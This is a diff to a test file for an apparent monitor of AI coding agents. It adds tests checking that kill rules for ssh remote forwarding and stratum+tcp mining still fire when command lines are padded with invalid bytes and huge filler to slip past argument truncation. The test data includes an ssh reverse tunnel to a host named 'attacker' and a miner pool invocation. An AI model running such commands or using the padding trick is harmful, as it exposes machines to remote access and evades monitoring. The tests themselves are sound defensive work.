@@ -18,7 +18,7 @@ from typing import Any
 import pytest
 from timebox import within
 
-from monitor import events
+from monitor import cmdline, events
 from monitor.config import Config, load_config_text
 from monitor.control import Peer
 from monitor.errors import ControlError
@@ -38,6 +38,7 @@ from monitor.events import (
     Setting,
 )
 from monitor.loader import ProbeOptions, TrackedProc
+from monitor.policy import load_policy_text
 from monitor.procfs import PF_KTHREAD, ProcFS, ProcInfo
 from monitor.runtime import JsonLog, Monitor
 
@@ -835,18 +836,103 @@ def test_tick_reads_cpu_from_kernel_map(tmp_path: Path) -> None:
     assert st["agents"][:5] == ["claude-code", "ci-bot", "scoped-node", "aider", "goose"]
 
 
-@pytest.mark.parametrize(("full", "cut", "same"), [
-    (("ssh", "-o", "SendEnv=" + "A" * 3000, "-R", "9:x:22", "h"),
-     ("ssh", "-o", "SendEnv=AAA"), True),
-    (("x" * 3000,), ("x" * 2559,), True),  # one argument, cut inside argv[0]
-    (("y" * 3000,), ("x" * 2559,), False),  # another program since
-    (("ssh", "-o", "SendEnv=B"), ("ssh", "-o", "SendEnv=AAA"), False),
-    (("ssh",), ("ssh", "-o"), False),
+# --- command lines the probes cut ------------------------------------------------------------
+
+ARGV_POLICY = """\
+mode: monitor
+rules:
+  - name: no-ssh-forward
+    event: exec
+    action: kill
+    match: {ssh: [remote_forward]}
+  - name: no-stratum
+    event: exec
+    action: kill
+    match: {argv: ['stratum\\+tcp://']}
+"""
+CUT = ExecFlag.ARGV_FROM_MM | ExecFlag.ARGV_TRUNC_LEN
+
+
+def argv_rig(tmp_path: Path) -> Rig:
+    r = rig(tmp_path)
+    r.mon = Monitor(config(), load_policy_text(ARGV_POLICY, "argv.yaml"), probes=r.probes,
+                    procfs=ProcFS(r.proc), sink=lambda ev, agent: r.sink.append((ev, agent)),
+                    log=r.log)
+    return r
+
+
+def cut_exec(pid: int, raw: bytes, comm: str = "ssh") -> ExecEvent:
+    """The exec as the probes send it: the first ARGS_SIZE bytes of the argument block."""
+    kept = raw[: events.ARGS_SIZE]
+    return ExecEvent(header(pid, session=SESSION_KERNEL_BIT | 5, agent=CLAUDE, comm=comm),
+                     old_tid=pid, ppid=1, cgroup_id=1, flags=CUT, filename=f"/usr/bin/{comm}",
+                     argv=tuple(a.decode("utf-8", "surrogateescape")
+                                for a in kept.split(b"\0")))
+
+
+def proc_cmdline(r: Rig, pid: int, raw: bytes, comm: str = "ssh") -> None:
+    make_proc(r.proc, pid, 1, comm)
+    (r.proc / str(pid) / "cmdline").write_bytes(raw)
+
+
+SSH_R = b"ssh\0-o\0SendEnv=X\xff" + b"A" * 3000 + b"\0-NR\0009000:localhost:22\0attacker\0"
+STRATUM = b"worker\0--label=\xff" + b"A" * 3000 + b"\0--pool\0stratum+tcp://pool:3333\0"
+
+
+@pytest.mark.parametrize(("raw", "comm", "rule"), [
+    (SSH_R, "ssh", "no-ssh-forward"),
+    (STRATUM, "worker", "no-stratum"),
+    (SSH_R.replace(b"A" * 3000, b"A" * 6_000_000), "ssh", "no-ssh-forward"),
+    (b"ssh\0" + b"-v\0" * 600_000 + b"-R\0x\0h\0", "ssh", "no-ssh-forward"),
+    (STRATUM.replace(b"A" * 3000 + b"\0", b"A\0" * 600_000), "worker", "no-stratum"),
 ])
-def test_a_truncated_argv_is_completed_only_from_the_same_command_line(
-        full: tuple[str, ...], cut: tuple[str, ...], same: bool) -> None:
-    from monitor.runtime import _continues
-    assert _continues(full, cut) is same
+def test_an_invalid_byte_and_padding_do_not_hide_the_rest_of_a_command_line(
+        tmp_path: Path, raw: bytes, comm: str, rule: str) -> None:
+    r = argv_rig(tmp_path)
+    pid = B + 60
+    proc_cmdline(r, pid, raw, comm)
+    r.mon.handle(cut_exec(pid, raw, comm))
+    (v,) = r.log.find("verdict")
+    assert v["rule"] == rule and v["pid"] == pid and v["outcome"] == "would kill"
+    # judged whole, kept bounded: the process, the event stream and the log line
+    proc = r.mon.tracker.process(pid)
+    shown = r.sink[-1][0]
+    assert proc is not None and isinstance(shown, ExecEvent)
+    for argv in (proc.argv, shown.argv, v["argv"]):
+        assert sum(len(a) + 1 for a in argv) <= cmdline.KEEP_CHARS + 100
+    assert not r.log.find("command line judged on the probes' cut copy")
+
+
+@pytest.mark.parametrize(("shown", "reason"), [(b"sleep\x005\0", "changed"), (None, "gone")])
+def test_a_cut_command_line_proc_cannot_confirm_is_counted_and_said(
+        tmp_path: Path, shown: bytes | None, reason: str) -> None:
+    r = argv_rig(tmp_path)
+    pid = B + 61
+    if shown is not None:
+        proc_cmdline(r, pid, shown)
+    for _ in range(3):
+        r.mon.handle(cut_exec(pid, SSH_R))
+    assert not r.log.find("verdict")  # the first 2,560 bytes hold no forward: not judged so
+    assert r.mon.metrics.argv_unconfirmed() == {("claude-code", reason): 3}
+    (said,) = r.log.find("command line judged on the probes' cut copy")  # once per 10 s
+    assert said["reason"] == reason and said["pid"] == pid and said["agent"] == "claude-code"
+    assert said["rules"] == ["no-ssh-forward", "no-stratum"]
+    assert said["judged_bytes"] == events.ARGS_SIZE
+    (ev, _), *_ = r.sink
+    assert isinstance(ev, ExecEvent) and ev.argv_truncated
+
+
+def test_the_monitor_keeps_at_most_max_processes_and_says_how_many_it_let_go(
+        tmp_path: Path) -> None:
+    r = rig(tmp_path, config(CONFIG.replace("  history: 4\n",
+                                            "  history: 4\n  max_processes: 1024\n")))
+    sid = SESSION_KERNEL_BIT | 9
+    for pid in range(B, B + 1030):  # exits lost, say: nothing ever drops them
+        r.mon.handle(ExecEvent(header(pid, session=sid, agent=CLAUDE), old_tid=pid, ppid=1,
+                               cgroup_id=1, flags=0, filename="/bin/true", argv=("true",)))
+    st = r.mon.status()
+    assert sum(s["processes"] for s in st["sessions"]) == 1024
+    assert st["processes_evicted"] == 6
 
 
 # --- fail-closed and connect decisions (policy-wide kernel switches) -----------------------
